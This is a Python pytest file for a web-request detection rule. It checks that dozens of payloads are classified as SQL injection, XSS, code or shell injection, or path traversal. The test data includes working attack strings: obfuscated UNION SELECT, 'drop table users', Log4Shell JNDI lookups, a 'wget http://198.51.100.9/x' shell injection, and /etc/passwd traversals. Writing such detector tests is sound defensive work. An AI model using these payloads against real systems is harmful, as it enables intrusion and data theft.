# Copyright (c) 2026, stockade.fleet contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Injections and ways out of the tree, however they are written: rows A52, C7, hole CH9 of the acceptance list."""

from __future__ import annotations

import time
from urllib.parse import quote

import pytest

from stockade.watcher.rules.suspicious import Suspicious

DEFAULT = Suspicious()


def token(target: str) -> str:
    return DEFAULT.token(f"GET {target} HTTP/1.1".encode("latin-1"))


def kind(target: str) -> str:
    """The token without the part that tells one injection from another."""
    return token(target).rpartition(":")[0]


ATTACKS = {
    # A52's signatures
    "/i?id=1+union+select+1": "injection:sql",
    "/i?id=1+and+1=(select+1+from+information_schema.tables)": "injection:sql",
    "/i?u=admin'--": "injection:sql",
    "/i?u=1'+--+-": "injection:sql",
    "/i?id=1--+-": "injection:sql",
    "/i?id=1+and+sleep(5)": "injection:sql",
    "/i?id=-1'+or+@@version>5": "injection:sql",
    "/i?id=1'+order+by+3": "injection:sql",
    "/i?id=1+order+by+10": "injection:sql",
    "/i?q=<script>alert(1)</script>": "injection:xss",
    "/i?q=<img+src=x+onerror=alert(1)>": "injection:xss",
    "/i?p=php://filter/read=convert.base64-encode/resource=index": "injection:code",
    "/i?c=base64_decode(aWQ)": "injection:code",
    "/i?c=;/bin/bash+-i": "injection:shell",
    "/i?f=../../../x": "traversal",
    "/i?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd": "traversal",
    # more SQL
    "/i?u='+or+'1'='1": "injection:sql",
    "/i?u=\\x22 or \\x22\\x22=\\x22": "injection:sql",
    "/i?u=\\\" or \\\"1\\\"=\\\"1": "injection:sql",
    "/i?u=1')+or+('1'='1": "injection:sql",
    "/i?id=1+or+1=1": "injection:sql",
    "/i?id=1;drop+table+users": "injection:sql",
    "/i?id=1;insert+into+users+values(1)": "injection:sql",
    "/i?id=1+and+pg_sleep(5)": "injection:sql",
    "/i?id=benchmark(1000000,md5(1))": "injection:sql",
    "/i?id=1;waitfor+delay+'0:0:5'": "injection:sql",
    "/i?id=1/**/union/**/select/**/1": "injection:sql",
    "/i?id=1+un/**/ion+sel/**/ect+1": "injection:sql",
    "/i?id=1+/*!50000union*/+/*!50000select*/+1": "injection:sql",
    "/i?id=1+union+all+select+char(97,98)": "injection:sql",
    "/i?id=a+union+select+0x61646d696e": "injection:sql",
    "/i?id=(select+user()+from+x)": "injection:sql",
    "/item/1'%20or%20'1'='1": "injection:sql",
    # more of the others
    "/i?q=%3Csvg/onload=alert(1)%3E": "injection:xss",
    "/i?q=%22+onmouseover=%22alert(1)": "injection:xss",
    "/i?u=javascript:alert(1)": "injection:xss",
    "/i?u=java%0ascript:alert(1)": "injection:xss",
    "/i?q=\\x3Cscript\\x3E": "injection:xss",
    "/<script>x</script>": "injection:xss",
    "/i?u=${jndi:ldap://198.51.100.9/a}": "injection:code",
    "/?x=${${lower:j}ndi:ldap://198.51.100.9/a}": "injection:code",
    "/i?u=1;wget+http://198.51.100.9/x": "injection:shell",
    "/i?u=$(id)": "injection:shell",
    "/i?u=|cat+/etc/hosts": "injection:shell",
    "/i?u=`whoami`": "injection:shell",
    "/?s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo": "injection:code",
    "/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input": "injection:code",
    # more ways out
    "/../../etc/passwd": "traversal",
    "/../x": "traversal",
    "/a/..%2f..%2f..%2fx": "traversal",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh": "traversal",
    "/icons/.%%32%65/.%%32%65/etc/passwd": "traversal",
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/x": "traversal",
    "/%uff0e%uff0e/x": "traversal",
    "/%e0%80%ae%e0%80%ae/x": "traversal",
    "/..\\..\\windows\\win.ini": "traversal",
    "/static/..;/..;/x": "traversal",
    "/i?f=../etc/passwd": "traversal",
    "/i?f=..%2f..%2fetc%2fpasswd%00.png": "traversal",
    "/i?f=..%5c..%5cboot.ini": "traversal",
    "/i?f=..%252f..%252f..%252fx": "traversal",
    "/i?f=....//....//....//x": "traversal",
    "/i?f=/../x": "traversal",
    "/i?f=file:///etc/passwd": "traversal",
}  # fmt: skip


@pytest.mark.parametrize(("target", "expected"), ATTACKS.items())
def test_a52_c7_attacks(target, expected) -> None:
    assert kind(target) == expected


def test_three_injections_are_three_probes_and_two_spellings_of_one_are_one() -> None:
    assert len({token(f"/i?id=1+union+select+{number}") for number in range(3)}) == 3
    spellings = [
        f"1{gap}{word}{gap}select{gap}1" for gap in ("+", "%20", "%2520", " ") for word in ("UNION", "%55nion")
    ]
    assert len({token(f"/i?id={spelled}") for spelled in spellings}) == 1
    assert len({token("/" + "../" * levels + "etc/passwd") for levels in (1, 2, 3)}) == 3


@pytest.mark.parametrize(
    "gap",
    [" ", "%20", "+", "%2520", "%252520", "%0a", "%09", "/**/", "/*x*/", "%2f**%2f"],
    ids=lambda gap: quote(gap, safe=""),
)
@pytest.mark.parametrize("word", ["UNION{0}SELECT", "union{0}select", "UnIoN{0}aLl{0}SeLeCt", "%55NION{0}%53ELECT"])
def test_c7_ch9_union_select_however_it_is_written(gap, word) -> None:
    assert kind(f"/i?id=1{gap}{word.format(gap)}{gap}user,password{gap}FROM{gap}users") == "injection:sql"


def test_c7_a_database_s_own_log_line_is_nothing() -> None:
    assert DEFAULT.token(b"mysqld: 5 Query SELECT now() FROM dual") == ""


@pytest.mark.parametrize(
    "piece",
    [
        "union ", "union select ", "' or ", "1 or ", "(select a.", "<a ", "<", "${", "{{1", "../", "..;/", "%25",
        "/*", "/**/", "1) ", "'", " ", "'))))) ", "=1 ", "select a,", "a/", ".env/", "wp-config.php", "....//",
        "&a=..", ";update x ", "\\x22", "() {", "j a v a s ", "%c0%ae",
    ],
)  # fmt: skip
def test_no_request_takes_more_than_proportional_time(piece) -> None:
    def seconds(size: int) -> float:
        request = b"GET /?a=" + (piece * (size // len(piece))).encode() + b" HTTP/1.1"
        best = 60.0
        for _try in range(3):
            start = time.process_time()
            DEFAULT._closer(request)
            best = min(best, time.process_time() - start)
        return best

    assert seconds(16_000) < max(0.25, 40 * seconds(1_000))
